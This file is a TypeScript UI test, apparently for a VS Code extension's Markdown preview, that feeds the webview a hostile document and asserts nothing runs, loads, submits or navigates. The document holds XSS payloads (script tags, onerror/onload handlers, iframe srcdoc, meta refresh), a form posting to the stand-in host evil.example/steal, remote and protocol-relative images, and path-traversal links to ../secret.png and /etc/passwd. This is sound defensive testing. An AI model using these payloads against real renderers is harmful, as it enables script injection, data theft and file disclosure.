/**
 * The preview webview against a hostile document, in real Chromium: scripts, event handlers,
 * `javascript:` / `data:` / `vbscript:` / `command:` links in several encodings, an iframe, a meta
 * refresh, a form, `<object>`/`<embed>`/`<base>`, remote and protocol-relative images, image paths
 * that climb out of the folder, and the renderer's private marker characters. Watches the whole
 * browser context while the preview shows it and a link is clicked: no dialog opens, no request
 * leaves for the hostile host, no handler sets its global, the frame does not navigate, and the
 * content holds no element that could run or load anything. Screenshot:
 * test-results/ui/hostile-preview.png. Runs in a workbench of its own on a temporary folder.
 */
import * as assert from 'node:assert/strict';
import { mkdirSync, writeFileSync } from 'node:fs';
import * as path from 'node:path';
import type { Request } from 'playwright-core';
import { FRONT, SCHEME_VARIANTS } from '../../support/hostileInputs';
import { REPO_ROOT } from '../../harness/codeServer';
import { openFile, runCommand, tempDir, type UiCheck } from '../uiCheck';

const FILE = 'hostile-analysis.md';
const HOST = 'evil.example';

const DOCUMENT = `${FRONT}## The Pattern

<script>window.__paPwned = 'script'; alert('script')</script>

<img src=x onerror="window.__paPwned='onerror'; alert('onerror')"> <svg onload="window.__paPwned='svg'"></svg>

<iframe src="https://${HOST}/frame"></iframe> <iframe srcdoc="<script>parent.__paPwned='srcdoc'</script>"></iframe>

<meta http-equiv="refresh" content="0;url=https://${HOST}/refresh">

<form action="https://${HOST}/steal"><input name="q" autofocus onfocus="window.__paPwned='focus'"><button>Send</button></form>

<object data="https://${HOST}/o"></object><embed src="https://${HOST}/e"><base href="https://${HOST}/"><link rel=stylesheet href="https://${HOST}/x.css">

${SCHEME_VARIANTS.map((u, i) => `- [hostile link ${i}](${u})`).join('\n')}

![pixel](https://${HOST}/pixel.png) ![proto](//${HOST}/p.png) ![data](data:image/svg+xml,<svg onload=alert(1)>)

![up](../secret.png) ![encoded](..%2fsecret.png) ![dots](%2e%2e/secret.png) ![absolute](/etc/passwd)

GPU utilization \uE000\uE010\uE001 was 72% \uE002\uE011\uE001.
`;

/** The smallest valid PNG: an image the traversal links would really show if they resolved. */
const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=', 'base64');

export const check: UiCheck = {
  name: 'A hostile document in the preview: nothing runs, loads, submits or navigates',
  // A folder of its own: the document and a secret image one level above the workspace.
  async ownWorkbench() {
    const dir = tempDir('hostile');
    const workspace = path.join(dir.path, 'workspace');
    mkdirSync(workspace);
    writeFileSync(path.join(dir.path, 'secret.png'), PNG);
    writeFileSync(path.join(workspace, FILE), DOCUMENT);
    return { options: { folder: workspace, extensionDevelopmentPath: REPO_ROOT }, dispose: () => dir.remove() };
  },
  async run({ page, screenshot, log, repoRoot }) {
    const dialogs: string[] = [];
    const requests: string[] = [];
    const onDialog = (d: { message(): string; dismiss(): Promise<void> }): void => {
      dialogs.push(d.message());
      void d.dismiss();
    };
    const onRequest = (r: Request): void => {
      if (r.url().includes(HOST)) requests.push(r.url());
    };
    page.on('dialog', onDialog);
    page.context().on('request', onRequest);
    try {
      await openFile(page, FILE);
      await page.locator('.statusbar-item', { hasText: 'Markdown' }).first().waitFor({ timeout: 30_000 });
      await page.locator('.monaco-editor .view-lines').first().click();
      await runCommand(page, 'Pattern Analyst: Open Preview to the Side');
      const frame = page.frameLocator('iframe.webview.ready').frameLocator('iframe#active-frame');
      const content = frame.locator('#pa-content');
      await content.locator('h2', { hasText: 'The Pattern' }).waitFor({ timeout: 30_000 });
      const startUrl = await content.evaluate('document.location.href');
      // Time for anything that would fire by itself: handlers, autofocus, a meta refresh, image loads.
      await page.waitForTimeout(2_000);

      // Click every link the document wrote (a refused address is shown without href: nothing to follow).
      const links = content.locator('a', { hasText: 'hostile link' });
      const count = await links.count();
      for (let i = 0; i < count; i++) await links.nth(i).click({ timeout: 5_000, noWaitAfter: true }).catch(() => undefined);
      await page.waitForTimeout(1_000);

      const probe = (await content.evaluate(`(() => {
        const el = document.getElementById('pa-content');
        // The renderer's own charts are SVG (svg.pa-chart) of drawing elements only (test/support/htmlSafety.ts):
        // any other svg, or anything else inside a chart, counts.
        const dangerous = el.querySelectorAll('script, iframe, frame, object, embed, form, input, button, meta, base, link, style, svg:not(.pa-chart), svg.pa-chart svg, svg.pa-chart :not(g, rect, line, circle, path, polyline, polygon, text, tspan, title, desc)');
        const hrefs = Array.from(el.querySelectorAll('[href]')).map((a) => a.getAttribute('href'));
        const srcs = Array.from(el.querySelectorAll('[src]')).map((x) => x.getAttribute('src'));
        const handlers = Array.from(el.querySelectorAll('*')).flatMap((x) => Array.from(x.attributes).filter((a) => a.name.startsWith('on')).map((a) => a.name));
        return { pwned: window.__paPwned, url: document.location.href, dangerous: Array.from(dangerous).map((d) => d.tagName), hrefs, srcs, handlers, text: el.textContent };
      })()`)) as { pwned?: string; url: string; dangerous: string[]; hrefs: string[]; srcs: string[]; handlers: string[]; text: string };
      log(`links shown: ${count}, hrefs kept: ${probe.hrefs.length}, images: ${probe.srcs.length}, dialogs: ${dialogs.length}, requests to ${HOST}: ${requests.length}`);
      log(`screenshot: ${path.relative(repoRoot, await screenshot('hostile-preview'))}`);

      assert.equal(probe.pwned, undefined, 'no script or handler from the document ran');
      assert.deepEqual(dialogs, [], 'no dialog opened');
      assert.deepEqual(requests, [], `nothing was requested from ${HOST}`);
      assert.equal(probe.url, startUrl, 'the preview did not navigate');
      assert.deepEqual(probe.dangerous, [], 'no element that runs, loads or submits');
      assert.deepEqual(probe.handlers, [], 'no event-handler attribute');
      for (const href of probe.hrefs) assert.match(href, /^(?:https:|http:|mailto:|#)/i, `link kept: ${href}`);
      assert.deepEqual(probe.srcs, [], 'no image from the network, a data: URI or outside the folder');
      assert.ok(probe.text.includes("<script>window.__paPwned = 'script'; alert('script')</script>"), 'the script shows as text');
      assert.match(probe.text, /image blocked|outside the document/i, 'blocked images say so');
    } finally {
      page.off('dialog', onDialog);
      page.context().off('request', onRequest);
    }
  },
};
